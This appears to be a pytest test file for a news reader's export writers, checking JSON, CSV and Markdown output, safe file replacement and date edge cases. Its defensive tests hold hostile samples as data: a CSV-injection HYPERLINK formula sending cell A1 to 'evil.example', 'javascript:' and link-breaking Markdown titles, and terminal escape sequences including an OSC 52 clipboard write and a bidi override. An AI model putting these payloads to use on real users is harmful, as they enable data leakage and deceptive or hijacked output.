"""The export writers, each read back the way its users read it: JSON parsed, CSV through the
csv module, Markdown through a CommonMark parser. Hostile text must stay data in every one."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import threading
import unicodedata
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from reader import export, timefmt
from reader.model import Article, Provider
from reader.serialize import article_to_dict

DAY = date(2026, 11, 27)


def stored(title: str = "A story", **fields: object) -> str:
    """A record as the parse cache holds it: article_to_dict's shape, as JSON text."""
    fields.setdefault("web_url", "https://news.example.com/a-story")
    article = Article(title=title, source="/records/a.md", **fields)  # type: ignore[arg-type]
    return json.dumps(article_to_dict(article), ensure_ascii=False)


FULL = stored(
    "Robots learn to fold laundry",
    excerpt="A two-armed robot folds towels.",
    published=datetime(2021, 3, 2, 14, 5, tzinfo=UTC),
    provider=Provider("Example News", "example.com"),
    topics=("Robotics", "AI"),
    heat=84,
    quality=74,
    type="article",
    category="news",
)
BARE = stored("Bare", web_url=None)


def written(fmt: str, records: list[str], query: str = "") -> tuple[str, int]:
    out = io.StringIO()
    count = export.write(fmt, records, out, query=query, day=DAY)
    return out.getvalue(), count


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def has_raw_control(text: str) -> bool:
    """A C0/C1 control other than a line end, or a bidi control: what a terminal acts on."""
    return any(
        (unicodedata.category(ch) == "Cc" and ch not in "\r\n")
        or unicodedata.bidirectional(ch)
        in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
        for ch in text
    )


def links(markdown: str) -> list[tuple[str, str]]:
    """Every link of a Markdown text as CommonMark reads it: (href, the text shown)."""
    found = []
    for block in MarkdownIt("commonmark").parse(markdown):
        children = block.children or []
        for i, token in enumerate(children):
            if token.type == "link_open":
                shown = ""
                for inner in children[i + 1 :]:
                    if inner.type == "link_close":
                        break
                    shown += inner.content
                found.append((token.attrs["href"], shown))
    return found


def plain_text(markdown: str) -> list[str]:
    """The text of each inline run, as a Markdown reader shows it."""
    return [
        "".join(child.content for child in block.children or [])
        for block in MarkdownIt("commonmark").parse(markdown)
        if block.type == "inline"
    ]


# --- JSON and JSON Lines -------------------------------------------------------------------------


def test_json_is_one_array_of_the_records_in_order() -> None:
    text, count = written("json", [FULL, BARE])
    assert count == 2
    assert json.loads(text) == [json.loads(FULL), json.loads(BARE)]
    assert json.loads(text)[0]["provider"] == {"name": "Example News", "domain": "example.com"}


def test_json_of_nothing_is_an_empty_array() -> None:
    assert written("json", []) == ("[]\n", 0)


def test_jsonl_is_one_record_a_line_in_order() -> None:
    text, count = written("jsonl", [FULL, BARE])
    assert count == 2
    assert [json.loads(line) for line in text.splitlines()] == [json.loads(FULL), json.loads(BARE)]


# --- CSV -----------------------------------------------------------------------------------------


def test_csv_has_a_header_and_the_useful_columns() -> None:
    text, count = written("csv", [FULL, BARE])
    header, full, bare = csv_rows(text)
    assert count == 2
    assert header == list(export.CSV_COLUMNS)
    row = dict(zip(header, full, strict=True))
    assert row == {
        "title": "Robots learn to fold laundry",
        "url": "https://news.example.com/a-story",
        "published": "2021-03-02T14:05:00+00:00",
        "provider": "Example News",
        "topics": "Robotics; AI",
        "excerpt": "A two-armed robot folds towels.",
        "heat": "84",
        "quality": "74",
        "type": "article",
        "category": "news",
    }
    assert dict(zip(header, bare, strict=True)) == dict.fromkeys(header, "") | {"title": "Bare"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " =", "\r="])
def test_csv_cells_never_start_a_formula(start: str) -> None:
    """OWASP's CSV injection: a cell starting with = + - @ (or tab, CR) is code to a
    spreadsheet. Such cells get a leading apostrophe; numbers stay numbers."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    record = stored(
        formula, excerpt=formula, provider=Provider(formula), topics=(formula,), heat=-5
    )
    (row,) = csv_rows(written("csv", [record])[0])[1:]
    cells = dict(zip(export.CSV_COLUMNS, row, strict=True))
    for column in ("title", "provider", "topics", "excerpt"):
        assert cells[column].startswith("'"), column
        assert "HYPERLINK" in cells[column]
    assert cells["heat"] == "-5"


def test_csv_leaves_ordinary_text_alone() -> None:
    (row,) = csv_rows(written("csv", [stored("Rates fall - again; 3 = three?")])[0])[1:]
    assert row[0] == "Rates fall - again; 3 = three?"


# --- Markdown ------------------------------------------------------------------------------------


def test_markdown_is_a_reading_list_with_links() -> None:
    text, count = written("md", [FULL, BARE], query="topic:Robotics")
    assert count == 2
    assert text.splitlines() == [
        "# Reading list: topic:Robotics (2026-11-27)",
        "",
        "- [Robots learn to fold laundry](https://news.example.com/a-story) — Example News, "
        "2021-03-02",
        "",
        "  A two-armed robot folds towels.",
        "",
        "- Bare",
    ]
    assert links(text) == [("https://news.example.com/a-story", "Robots learn to fold laundry")]


def test_markdown_without_a_query_says_only_the_day() -> None:
    assert written("md", [])[0] == "# Reading list (2026-11-27)\n"


@pytest.mark.parametrize(
    "title",
    [
        "Evil](https://evil.example/) [click",
        "[Fake](javascript:alert(1))",
        "Stars *bold* _em_ `code` <b>html</b> &amp; ~~gone~~ $x$ \\ backslash",
        "# Not a heading",
        "1. Not a list",
    ],
)
def test_markdown_titles_cannot_break_their_link(title: str) -> None:
    """Whatever a title holds, the item has one link, to the record's URL, showing the title."""
    text, _ = written("md", [stored(title, web_url="https://news.example.com/x_(y)")])
    assert links(text) == [("https://news.example.com/x_%28y%29", title)]


def test_markdown_only_links_web_urls() -> None:
    text, _ = written("md", [stored("Click me", web_url="javascript:alert(1)")])
    assert links(text) == []
    assert "- Click me" in text.splitlines()


@pytest.mark.parametrize("excerpt", ["# A heading?", "> a quote", "- a list", "2. a list", "==="])
def test_markdown_excerpts_stay_paragraphs(excerpt: str) -> None:
    text, _ = written("md", [stored("Title", excerpt=excerpt)])
    blocks = [token.type for token in MarkdownIt("commonmark").parse(text)]
    assert blocks.count("heading_open") == 1  # the list's own heading
    assert "blockquote_open" not in blocks and "ordered_list_open" not in blocks
    assert blocks.count("bullet_list_open") == 1
    assert excerpt in plain_text(text)


# --- hostile text --------------------------------------------------------------------------------

HOSTILE = "Pwned \x1b]52;c;ZWNobyBwd25lZA==\x07 \x1b[31mred\x9b\u202e txt.exe"


@pytest.mark.parametrize("fmt", ["csv", "md"])
def test_control_characters_never_reach_the_file(fmt: str) -> None:
    """Text formats are read in terminals (cat, less): no ESC, BEL, C1 or bidi control."""
    record = stored(
        HOSTILE, excerpt=HOSTILE, provider=Provider(HOSTILE), topics=(HOSTILE,), type=HOSTILE
    )
    text, _ = written(fmt, [record], query=HOSTILE)
    assert not has_raw_control(text)
    assert "\u241b" in text and "\u2407" in text  # ESC and BEL shown, not acted on


def test_line_breaks_in_a_title_stay_on_its_line() -> None:
    text, _ = written("md", [stored("One\nTwo\r\n- three")])
    assert links(text) == [("https://news.example.com/a-story", "One Two - three")]
    (row,) = csv_rows(written("csv", [stored("One\nTwo")])[0])[1:]
    assert row[0] == "One Two"


# --- files ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "fmt"),
    [("a.md", "md"), ("A.CSV", "csv"), ("x.json", "json"), ("x.jsonl", "jsonl"), ("x.txt", None)],
)
def test_format_for_reads_the_extension(name: str, fmt: str | None) -> None:
    assert export.format_for(name) == fmt
    assert export.format_for(f"~/{name}.d/list") is None


def test_export_file_never_replaces_unless_told(tmp_path: Path) -> None:
    path = tmp_path / "list.jsonl"
    path.write_text("keep me")
    with pytest.raises(FileExistsError):
        export.export_file(path, "jsonl", [FULL], query="", day=DAY, replace=False)
    assert path.read_text() == "keep me"
    assert export.export_file(path, "jsonl", [FULL], query="", day=DAY, replace=True) == 1
    assert json.loads(path.read_text()) == json.loads(FULL)


def test_write_errors_name_the_path_and_the_reason(tmp_path: Path) -> None:
    missing = tmp_path / "nope" / "list.md"
    assert export.write_error(missing, FileNotFoundError(2, "No such file")) == (
        f"Cannot write {missing}: the folder {tmp_path / 'nope'} does not exist"
    )
    assert export.write_error(tmp_path, IsADirectoryError(21, "Is a directory")) == (
        f"Cannot write {tmp_path}: that is a folder"
    )
    denied = Path("/root/list.md")
    assert export.write_error(denied, PermissionError(13, "Permission denied")) == (
        f"Cannot write {denied}: permission denied"
    )


def test_write_errors_of_other_kinds_name_the_path_and_the_error() -> None:
    """What is not an OSError is a fault of ours or of a record: said as it is."""
    path = Path("/tmp/list.md")
    assert export.write_error(path, OverflowError("date value out of range")) == (
        f"Cannot write {path}: OverflowError: date value out of range"
    )
    assert export.write_error(path, KeyError()) == f"Cannot write {path}: KeyError"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """An empty folder to write in (tmp_path holds the test's XDG folders too)."""
    path = tmp_path / "out"
    path.mkdir()
    return path


def failing(good: int, error: Exception) -> Iterator[str]:
    """Records that fail part way, as one the writer cannot write would."""
    yield from [FULL] * good
    raise error


@pytest.mark.parametrize("fmt", list(export.FORMATS))
def test_a_failed_write_leaves_the_file_it_was_to_replace(folder: Path, fmt: str) -> None:
    """The user agreed to replace the file with the export, not with half of one: a write
    that fails leaves the file as it was, and no temporary file beside it."""
    path = folder / "list.out"
    path.write_text("my notes")
    records = failing(3, OverflowError("date value out of range"))
    with pytest.raises(OverflowError):
        export.export_file(path, fmt, records, query="", day=DAY, replace=True)
    assert path.read_text() == "my notes"
    assert list(folder.iterdir()) == [path]


def test_a_failed_write_of_a_new_file_leaves_nothing(folder: Path) -> None:
    path = folder / "list.md"
    with pytest.raises(RuntimeError):
        export.export_file(path, "md", failing(2, RuntimeError()), query="", day=DAY, replace=False)
    assert list(folder.iterdir()) == []


def test_replacing_keeps_the_permissions_and_writes_through_a_link(folder: Path) -> None:
    real = folder / "real.md"
    real.write_text("old")
    real.chmod(0o640)
    link = folder / "link.md"
    link.symlink_to(real)
    assert export.export_file(link, "md", [FULL], query="", day=DAY, replace=True) == 1
    assert link.is_symlink()
    assert real.read_text().startswith("# Reading list (2026-11-27)")
    assert stat.S_IMODE(real.stat().st_mode) == 0o640
    assert sorted(path.name for path in folder.iterdir()) == ["link.md", "real.md"]


def test_what_is_not_a_file_is_written_to_as_it_is(folder: Path) -> None:
    """`-o /dev/stdout`, a pipe: there is nothing to replace, and nothing beside it to write."""
    pipe = folder / "pipe"
    os.mkfifo(pipe)
    got: list[str] = []
    reader = threading.Thread(target=lambda: got.append(pipe.read_text()), daemon=True)
    reader.start()
    assert export.export_file(pipe, "jsonl", [FULL], query="", day=DAY, replace=True) == 1
    reader.join(5)
    assert got == [FULL + "\n"]
    assert stat.S_ISFIFO(os.stat(pipe).st_mode)
    assert list(folder.iterdir()) == [pipe]


# --- dates at the ends of time -------------------------------------------------------------------

EDGES = [datetime(1, 1, 1, tzinfo=UTC), datetime(9999, 12, 31, 23, 59, tzinfo=UTC)]


@pytest.mark.parametrize("moment", EDGES, ids=["year 1", "year 9999"])
def test_the_first_and_last_days_are_written_in_any_zone(far_zone: None, moment: datetime) -> None:
    """A record may be dated 0001-01-01 (the parser takes it). Where that has no local time,
    its day is the record's own, not an OverflowError."""
    text, count = written("md", [stored("Old", published=moment)])
    assert count == 1
    assert f"— {moment.date().isoformat()}" in text


@pytest.mark.parametrize("moment", EDGES, ids=["year 1", "year 9999"])
def test_the_apps_dates_show_the_first_and_last_days_in_any_zone(
    far_zone: None, moment: datetime
) -> None:
    """The list, the detail pane and the reader view show the same records' dates."""
    day = moment.date().isoformat()
    assert timefmt.relative(moment, datetime(2026, 11, 27, tzinfo=UTC)) == day
    assert timefmt.local(moment).startswith(f"{moment:%a} {day} ")
    naive = moment.replace(tzinfo=None)
    assert timefmt.local(naive).startswith(f"{moment:%a} {day} ")
